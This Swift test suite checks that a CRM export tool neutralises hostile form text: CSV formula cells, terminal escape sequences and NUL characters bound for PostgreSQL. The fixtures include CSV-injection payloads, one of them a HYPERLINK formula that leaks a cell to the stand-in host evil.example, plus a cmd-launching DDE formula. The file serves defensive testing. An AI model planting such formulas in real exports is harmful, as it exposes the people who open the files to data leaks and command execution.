import Foundation
import GRDB
import InfuseTestSupport
import Testing

@testable import InfuseCore

/// What CRM text (typed by the public into web forms) can do on the way out: formula cells in a
/// CSV export, NUL characters into PostgreSQL, terminal control sequences in printed text.
@Suite("Reliability: hostile CRM text on the way out", .serialized)
struct ReliabilityOutputTests {
    /// Cells a spreadsheet runs as formulas (OWASP's list of leading characters).
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
        "\t=1+1", "\r=1+1",
    ]

    /// A contacts page whose `given_name`s are `texts` and whose `score` is a negative number.
    static func page(_ texts: [String]) throws -> Data {
        let records = texts.enumerated().map { index, text -> [String: Any] in
            ["id": 500 + index, "given_name": text, "family_name": "Plain", "score": -5 - index]
        }
        return try JSONSerialization.data(withJSONObject: ["contacts": records, "count": records.count])
    }

    /// A workspace with one contacts source (optionally with a PostgreSQL destination).
    static func workspace(_ directory: TemporaryDirectory, destination: String? = nil) throws -> (Workspace, RefreshEngine) {
        let paths = WorkspacePaths(directory: directory.path("ws"))
        let workspace = try Workspace.open(paths)
        try workspace.insertAccount(Account(
            name: "Out", apiBase: URL(string: "http://127.0.0.1:9/crm/rest")!, authKind: .apiKey, createdAt: Date(), lastAuthorizedAt: nil, status: .ok))
        var source = DataSource(name: "Hostile", description: "", accountName: "Out", target: .endpoint(id: "contacts"), selectedSchemas: ["contacts"])
        source.destination = destination
        try workspace.insertDataSource(source)
        let engine = RefreshEngine(
            workspace: workspace, accounts: AccountManager(workspace: workspace, secrets: SecretsStore(fileURL: paths.secretsURL)))
        return (workspace, engine)
    }

    @Test("CSV export neutralises formula cells with a leading ', keeps numbers, and --keep-formulas keeps them raw")
    func csvFormulas() async throws {
        ReliabilityReport.begin("csv-formulas", description: "formula-looking CRM text through infuse export --format csv")
        let directory = try TemporaryDirectory(prefix: "infuse-csv")
        defer { directory.remove() }
        let (workspace, engine) = try Self.workspace(directory)
        let file = directory.path("page.json")
        try Self.page(Self.formulas + ["plain text", "a=b"]).write(to: file)
        _ = try await engine.importFiles(sourceNamed: "Hostile", files: [file], schemas: nil, progress: nil)
        let relation = try TableExporter.relation(workspace: workspace, source: "Hostile", table: "contacts")

        func export(keep: Bool) throws -> String {
            let out = directory.path(keep ? "raw.csv" : "safe.csv")
            FileManager.default.createFile(atPath: out.path, contents: nil)
            let handle = try FileHandle(forWritingTo: out)
            _ = try TableExporter.export(workspace: workspace, relation: relation, format: .csv, to: handle, keepFormulas: keep)
            try handle.close()
            return try String(contentsOf: out, encoding: .utf8)
        }
        let safe = try export(keep: false)
        let raw = try export(keep: true)
        var neutralised = 0, kept = 0
        for formula in Self.formulas {
            let quoted = "\"'" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            if safe.contains(quoted) { neutralised += 1 }
            let field = formula.contains("\"") || formula.contains("\r") ? "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : formula
            if raw.contains(field), !raw.contains("'" + formula) { kept += 1 }
        }
        #expect(neutralised == Self.formulas.count, "\(safe)")
        #expect(kept == Self.formulas.count, "\(raw)")
        // No field of the safe file starts with a formula character unquoted, and numbers stay numbers.
        #expect(safe.contains(",-5") || safe.contains("-5,"), "negative numbers are not changed")
        #expect(!safe.contains("'-5"))
        #expect(safe.contains("plain text") && safe.contains("a=b") && !safe.contains("'a=b"))
        ReliabilityReport.write(ReliabilityResult(
            scenario: "csv-formulas", description: "formula-looking CRM text through infuse export --format csv",
            passed: neutralised == Self.formulas.count && kept == Self.formulas.count && !safe.contains("'-5"), runs: 2,
            faultsInjected: Self.formulas.count, rowsLost: nil, rowsDuplicated: nil, rowsChanged: nil, tablesPartial: nil,
            notes: "neutralised with a leading ': \(neutralised) of \(Self.formulas.count); raw with --keep-formulas: \(kept); numbers untouched"))
    }

    @Test("visible escapes: ESC, OSC, CR, BEL, C1 and bidi overrides never reach the terminal raw")
    func visibleEscapes() {
        let hostile = "a\u{1B}[2Jb\u{1B}]0;owned\u{07}c\rd\u{9B}31me\u{202E}f\tg\nh"
        let shown = TextSafety.visible(hostile)
        #expect(shown == "a\\e[2Jb\\e]0;owned\\u0007c\\rd\\u009B31me\\u202Ef\tg\nh")
        #expect(!shown.unicodeScalars.contains { TextSafety.needsEscape($0) })
        #expect(TextSafety.visible("plain Ünïcödé ✓") == "plain Ünïcödé ✓")
        let json = Array("{\"a\":\"x\u{9B}y\u{202E}z\"}".utf8)
        let safe = TextSafety.visibleJSON(json)
        #expect(String(decoding: safe, as: UTF8.self) == "{\"a\":\"x\\u009By\\u202Ez\"}")
        let decoded = try? JSONSerialization.jsonObject(with: Data(safe)) as? [String: String]
        #expect(decoded?["a"] == "x\u{9B}y\u{202E}z", "the same JSON after escaping")
    }

    @Test("NUL in a string to PostgreSQL: refused with a message naming table, column and row; old tables kept",
          .enabled(if: ProcessInfo.processInfo.environment["INFUSE_TEST_POSTGRES_URL"] != nil, "INFUSE_TEST_POSTGRES_URL is not set"))
    func nulToPostgres() async throws {
        ReliabilityReport.begin("postgres-nul", description: "a NUL character in CRM text loaded into PostgreSQL")
        let url = try #require(ProcessInfo.processInfo.environment["INFUSE_TEST_POSTGRES_URL"])
        let directory = try TemporaryDirectory(prefix: "infuse-nul")
        defer { directory.remove() }
        let (_, engine) = try Self.workspace(directory, destination: url)
        let good = directory.path("good.json"), bad = directory.path("bad.json")
        try Self.page(["Ann", "Bob", "Cy"]).write(to: good)
        try Self.page(["Ann", "Bo\u{0}b", "Cy"]).write(to: bad)
        _ = try await engine.importFiles(sourceNamed: "Hostile", files: [good], schemas: nil, progress: nil)
        let session = try await PostgresSession.connect(try PostgresURL(parsing: url), secrets: nil)
        func names() async throws -> [String] {
            try await session.textRows("SELECT given_name FROM hostile.hostile__contacts ORDER BY id", columns: 1).compactMap { $0.first ?? nil }
        }
        let before = try await names()
        var message = ""
        do {
            _ = try await engine.importFiles(sourceNamed: "Hostile", files: [bad], schemas: nil, progress: nil)
            Issue.record("a NUL was loaded or dropped silently")
        } catch {
            message = userMessage(for: error)
        }
        let after = try await names()
        await session.close()
        #expect(message.contains("NUL") && message.contains("contacts.given_name") && message.contains("row 2"), "\(message)")
        #expect(before == ["Ann", "Bob", "Cy"])
        #expect(after == before, "the old tables are kept")
        ReliabilityReport.write(ReliabilityResult(
            scenario: "postgres-nul", description: "a NUL character in CRM text loaded into PostgreSQL",
            passed: !message.isEmpty && after == before, runs: 2, faultsInjected: 1,
            rowsLost: max(0, before.count - after.count), rowsDuplicated: max(0, after.count - Set(after).count),
            rowsChanged: zip(before, after).filter { $0 != $1 }.count, tablesPartial: after == before ? 0 : 1,
            notes: "refused: \(message)"))
    }
}
